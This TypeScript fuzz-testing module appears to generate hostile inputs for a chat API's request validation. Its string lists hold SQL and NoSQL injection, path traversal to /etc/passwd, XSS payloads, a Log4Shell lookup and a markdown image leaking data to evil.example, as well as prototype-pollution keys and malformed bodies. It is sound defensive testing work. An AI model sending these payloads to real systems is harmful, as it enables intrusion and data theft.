import fc from "fast-check";
import type { JsonSchema } from "./openapi-routes.ts";

/**
 * Strings that have broken parsers, validators, stores and renderers before: control and
 * invisible characters, lone surrogates, injection payloads for SQL, NoSQL, templates and HTML,
 * path traversal, and values that look like other types.
 */
export const hostileStrings: readonly string[] = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u0001\u0002\u001f\u007f",
  "\r\n\r\nX-Injected: yes",
  "\t\b\f\u000b",
  "\uD800",
  "\uDFFF",
  "x\uDBFFy",
  "\uFEFFbom",
  "\u202Eevil\u202C",
  "\u200B\u200C\u200D\u2060",
  "e\u0301\u0301\u0301\u0301\u0301",
  "\uFFFE\uFFFF",
  "𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦 🏳️‍🌈",
  "' OR '1'='1",
  "'; DROP TABLE messages; --",
  '" OR ""="',
  "1) UNION SELECT password_hash FROM users --",
  '{"$gt":""}',
  '{"$ne":null}',
  "$where",
  "this.passwordHash",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "//evil.example/x",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "![leak](https://evil.example/pixel.png?data=secret)",
  "javascript:alert(1)",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, meant literally
  "${jndi:ldap://evil.example/a}",
  "{{constructor.constructor('return process')()}}",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "1e308",
  "9007199254740993",
  "true",
  "null",
  "undefined",
  "[]",
  "{}",
  "%00",
  "%",
  "%zz",
  "\\",
  '"',
  "`",
];

/** Keys that pollute prototypes or smuggle operators when an object is merged or queried. */
export const hostileKeys: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "$gt",
  "$where",
  "$set",
  "userId",
  "role",
  "id",
  "chatId",
  "",
  "a.b",
  "\u0000",
];

/** An object with `key` as an own, enumerable property, even for `__proto__`. */
function withOwnKey(target: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
  return target;
}

/** Arrays (or objects) nested `depth` deep. */
function nested(depth: number, asObjects: boolean): unknown {
  let value: unknown = "deep";
  for (let level = 0; level < depth; level++) value = asObjects ? { a: value } : [value];
  return value;
}

const hugeString = fc
  .tuple(fc.constantFrom("a", "𝕳", "\u0000", "é"), fc.constantFrom(10_000, 40_000, 70_000))
  .map(([unit, count]) => unit.repeat(count));

/** Any hostile string: a listed one, random code units (lone surrogates included) or a huge one. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: hugeString },
);

/** Numbers at the edges: negative zero, huge, fractional, past the safe integers. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 2, 5e-324, 101, 1_000_000),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
);

/** Objects that try prototype pollution or NoSQL operators. */
const hostileObject: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(withOwnKey({}, "__proto__", { polluted: true, role: "admin" })),
  fc.constant({ constructor: { prototype: { polluted: true } } }),
  fc.constant({ $gt: "" }),
  fc.constant({ $ne: null }),
  fc.constant({ $where: "sleep(1000)" }),
  fc.tuple(fc.constantFrom(...hostileKeys), hostileScalar).map(([key, value]) => withOwnKey({}, key, value)),
);

/** Anything hostile: scalars, arrays where objects go, polluting objects, deep nesting. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileScalar },
  { weight: 2, arbitrary: fc.array(hostileScalar, { maxLength: 4 }) },
  { weight: 2, arbitrary: hostileObject },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 50, max: 3_000 }), fc.boolean())
      .map(([depth, asObjects]) => nested(depth, asObjects)),
  },
);

/** Values for fields by name, so schema-made bodies are often valid in meaning, not only in shape. */
export type FieldHints = Record<string, fc.Arbitrary<unknown>>;

/**
 * `hints` fill fields by name; `hostile` (the default) swaps values for hostile ones now and
 * then, adds hostile keys, drops required ones and tries each limit plus one. Without it the
 * values are valid, so requests get past validation into the logic behind it.
 */
export type SchemaValueOptions = { hints?: FieldHints; hostile?: boolean };

/** How often (0 to 1) a schema-made value is swapped for a hostile one at each level. */
const hostileShare = 0.2;

function maybeHostile(valid: fc.Arbitrary<unknown>, hostile: boolean): fc.Arbitrary<unknown> {
  if (!hostile) return valid;
  const validWeight = Math.round((1 - hostileShare) * 100);
  return fc.oneof(
    { weight: validWeight, arbitrary: valid },
    { weight: 100 - validWeight, arbitrary: hostileValue },
  );
}

function stringFromSchema(schema: JsonSchema, hostile: boolean): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 60, 60);
  let valid: fc.Arbitrary<string>;
  if (schema.format === "email") valid = fc.emailAddress();
  else if (schema.format === "date-time")
    valid = fc
      .date({ min: new Date("2000-01-01"), max: new Date("2100-01-01"), noInvalidDate: true })
      .map((date) => date.toISOString());
  else if (schema.pattern)
    valid = fc
      .stringMatching(new RegExp(schema.pattern))
      .filter((text) => text.length >= minLength && text.length <= (schema.maxLength ?? 1_000));
  else valid = fc.string({ unit: "grapheme", minLength, maxLength: Math.max(minLength, maxLength) });
  // Just past each limit: validators are often off by one.
  const edges: string[] = [];
  if (schema.maxLength !== undefined && schema.maxLength < 100_000)
    edges.push("x".repeat(schema.maxLength + 1));
  if (minLength > 0) edges.push("x".repeat(minLength - 1));
  return edges.length === 0 || !hostile
    ? valid
    : fc.oneof({ weight: 9, arbitrary: valid }, { weight: 1, arbitrary: fc.constantFrom(...edges) });
}

function numberFromSchema(schema: JsonSchema, integer: boolean, hostile: boolean): fc.Arbitrary<number> {
  const min = schema.minimum ?? -1_000_000;
  const max = schema.maximum ?? 1_000_000;
  const valid = integer ? fc.integer({ min, max }) : fc.double({ min, max, noNaN: true });
  if (!hostile) return valid;
  return fc.oneof(
    { weight: 8, arbitrary: valid },
    { weight: 2, arbitrary: fc.constantFrom(min - 1, max + 1) },
  );
}

/**
 * Values for a JSON schema: with `hostile`, mostly valid, each level swapped for a hostile value
 * one time in five, with extra (hostile) keys on objects now and then; without, valid ones.
 *
 * @example
 * const body = valueFromSchema(operation.bodySchema, { hints: { model: fc.constant("demo") } });
 */
export function valueFromSchema(
  schema: JsonSchema,
  options: SchemaValueOptions = {},
  depth = 0,
): fc.Arbitrary<unknown> {
  return maybeHostile(validValueFromSchema(schema, options, depth), options.hostile ?? true);
}

function validValueFromSchema(
  schema: JsonSchema,
  options: SchemaValueOptions,
  depth: number,
): fc.Arbitrary<unknown> {
  const hostile = options.hostile ?? true;
  if (depth > 6) return fc.constant(null);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives && alternatives.length > 0) {
    return fc.oneof(
      ...alternatives.map((alternative) => validValueFromSchema(alternative, options, depth + 1)),
    );
  }
  switch (schema.type) {
    case "string":
      return stringFromSchema(schema, hostile);
    case "integer":
      return numberFromSchema(schema, true, hostile);
    case "number":
      return numberFromSchema(schema, false, hostile);
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array":
      return fc.array(valueFromSchema(schema.items ?? {}, options, depth + 1), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 4, 4),
      });
    case "object":
      return objectFromSchema(schema, options, depth);
    default:
      return hostile ? hostileValue : fc.constant(null);
  }
}

function objectFromSchema(
  schema: JsonSchema,
  options: SchemaValueOptions,
  depth: number,
): fc.Arbitrary<unknown> {
  const hostile = options.hostile ?? true;
  const hints = options.hints ?? {};
  const properties = schema.properties ?? {};
  const required = new Set(schema.required ?? []);
  const fields = Object.fromEntries(
    Object.entries(properties).map(([name, property]) => {
      const hint = hints[name];
      return [name, hint ? maybeHostile(hint, hostile) : valueFromSchema(property, options, depth + 1)];
    }),
  );
  const record = fc.record(fields, {
    requiredKeys: Object.keys(properties).filter((name) => required.has(name)),
  });
  if (!hostile) return record;
  const extraKeys = fc.oneof(
    { weight: 8, arbitrary: fc.constant([] as Array<[string, unknown]>) },
    {
      weight: 2,
      arbitrary: fc.array(fc.tuple(fc.constantFrom(...hostileKeys), hostileScalar), { maxLength: 2 }),
    },
  );
  return fc
    .tuple(
      record,
      extraKeys,
      // Now and then a required field goes missing.
      fc.oneof(
        { weight: 9, arbitrary: fc.constant(null) },
        { weight: 1, arbitrary: fc.constantFrom(...required, null) },
      ),
    )
    .map(([value, extras, dropped]) => {
      const copy: Record<string, unknown> = { ...(value as Record<string, unknown>) };
      if (dropped) delete copy[dropped];
      for (const [key, extra] of extras) withOwnKey(copy, key, extra);
      return copy;
    });
}

/** A request body as it goes on the wire: bytes (or text) and the content type it claims. */
export type WireBody = {
  contentType: string | null;
  payload: string | Uint8Array<ArrayBuffer>;
  form: string;
};

const encoder = new TextEncoder();

/** JSON text with one field written twice: which one wins differs between parsers. */
function withDuplicateKey(json: string, key: string, value: unknown): string {
  if (!json.startsWith("{")) return json;
  const first = `${JSON.stringify(key)}:${JSON.stringify(value)}`;
  return json === "{}" ? `{${first},${first}}` : `{${first},${json.slice(1)}`;
}

/** JSON bytes with a string holding bytes that are not UTF-8 (overlong, surrogate, truncated). */
function withInvalidUtf8(json: string, badBytes: readonly number[]): Uint8Array<ArrayBuffer> {
  const marker = "INVALID_UTF8_HERE";
  const text = json.startsWith("{") && json !== "{}" ? `{"x":"${marker}",${json.slice(1)}` : `"${marker}"`;
  const [before = "", after = ""] = text.split(marker);
  return new Uint8Array([...encoder.encode(before), ...badBytes, ...encoder.encode(after)]);
}

function formEncoded(value: unknown): string {
  if (typeof value !== "object" || value === null) return `value=${percentEncode(String(value))}`;
  return Object.entries(value)
    .map(
      ([key, inner]) =>
        `${percentEncode(key)}=${percentEncode(typeof inner === "string" ? inner : (JSON.stringify(inner) ?? ""))}`,
    )
    .join("&");
}

function multipart(value: unknown): { contentType: string; payload: string } {
  const boundary = "----chat-test-boundary";
  const entries = typeof value === "object" && value !== null ? Object.entries(value) : [["value", value]];
  const parts = entries.map(
    ([key, inner]) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${String(key).replace(/"/g, "")}"\r\n\r\n${typeof inner === "string" ? inner : JSON.stringify(inner)}\r\n`,
  );
  return {
    contentType: `multipart/form-data; boundary=${boundary}`,
    payload: `${parts.join("")}--${boundary}--\r\n`,
  };
}

/**
 * How a body value is put on the wire: mostly as JSON, otherwise with a wrong or missing content
 * type, duplicate keys, bytes that are not UTF-8, truncated, with a BOM, or past the size limit.
 */
export function wireBody(value: fc.Arbitrary<unknown>, maxBodyBytes: number): fc.Arbitrary<WireBody> {
  const json = (contentType: string | null, form: string) =>
    value.map((inner): WireBody => ({ contentType, payload: JSON.stringify(inner) ?? "null", form }));
  return fc.oneof(
    { weight: 12, arbitrary: json("application/json", "json") },
    { weight: 1, arbitrary: json(null, "json without content type") },
    { weight: 1, arbitrary: json("text/plain", "json as text/plain") },
    { weight: 1, arbitrary: json("application/json; charset=utf-16", "json claiming utf-16") },
    { weight: 1, arbitrary: json("application/xml", "json as xml") },
    {
      weight: 1,
      arbitrary: value.map(
        (inner): WireBody => ({
          contentType: "application/x-www-form-urlencoded",
          payload: formEncoded(inner),
          form: "form-urlencoded",
        }),
      ),
    },
    { weight: 1, arbitrary: value.map((inner): WireBody => ({ ...multipart(inner), form: "multipart" })) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(value, fc.constantFrom("content", "name", "title", "model", "email", "messages"), hostileValue)
        .map(
          ([inner, key, duplicate]): WireBody => ({
            contentType: "application/json",
            payload: withDuplicateKey(JSON.stringify(inner) ?? "null", key, duplicate),
            form: `duplicate key ${key}`,
          }),
        ),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          value,
          fc.constantFrom(
            [0xff],
            [0xc0, 0xaf],
            [0xed, 0xa0, 0x80],
            [0xe2, 0x82],
            [0xf8, 0x88, 0x80, 0x80, 0x80],
            [0x80],
          ),
        )
        .map(
          ([inner, bad]): WireBody => ({
            contentType: "application/json",
            payload: withInvalidUtf8(JSON.stringify(inner) ?? "null", bad),
            form: `invalid utf-8 ${bad.map((byte) => byte.toString(16)).join(" ")}`,
          }),
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          value,
          fc.constantFrom("truncated", "bom", "trailing garbage", "comment", "NaN literal", "empty"),
        )
        .map(([inner, damage]): WireBody => {
          const text = JSON.stringify(inner) ?? "null";
          const payloads: Record<string, string> = {
            truncated: text.slice(0, Math.max(1, Math.floor(text.length / 2))),
            bom: `\uFEFF${text}`,
            "trailing garbage": `${text} }}]]`,
            comment: `/* hi */ ${text}`,
            "NaN literal": `{"value": NaN, "content": Infinity}`,
            empty: "",
          };
          return { contentType: "application/json", payload: payloads[damage] ?? text, form: damage };
        }),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(1, 4).map(
        (factor): WireBody => ({
          contentType: "application/json",
          payload: JSON.stringify({ content: "a".repeat(maxBodyBytes * factor) }),
          form: `over the body limit (${factor}x)`,
        }),
      ),
    },
  );
}

/** A header value fetch accepts (Latin-1, no control characters) made from a hostile string. */
export function headerSafe(text: string): string {
  return text.replace(/[^\u0020-\u00ff]/g, "?");
}

/**
 * `encodeURIComponent` that also takes lone surrogates: they go out as the three bytes a careless
 * encoder would write (CESU-8), which are not UTF-8, so the server must cope with them.
 */
export function percentEncode(text: string): string {
  let encoded = "";
  for (const character of text) {
    const unit = character.charCodeAt(0);
    if (character.length === 1 && unit >= 0xd800 && unit <= 0xdfff) {
      const bytes = [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)];
      encoded += bytes.map((byte) => `%${byte.toString(16).toUpperCase()}`).join("");
    } else {
      encoded += encodeURIComponent(character);
    }
  }
  return encoded;
}
